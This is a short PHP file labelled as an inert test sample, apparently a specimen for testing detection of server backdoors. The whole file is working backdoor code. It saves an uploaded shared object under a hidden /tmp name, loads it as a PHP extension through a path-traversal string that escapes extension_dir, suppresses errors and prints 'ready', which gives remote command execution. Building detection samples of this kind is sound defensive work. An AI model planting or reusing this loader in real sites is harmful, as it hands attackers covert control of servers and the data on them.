<?php
// inert test sample: an uploaded shared object is saved to a temporary folder and loaded as a PHP
// extension through a path that climbs out of extension_dir; its functions then run commands
if (isset($_FILES['ext'])) {
    move_uploaded_file($_FILES['ext']['tmp_name'], '/tmp/.cache_php.so');
}
if (function_exists('dl')) {
    @dl('../../../../../../tmp/.cache_php.so');
}
echo 'ready';
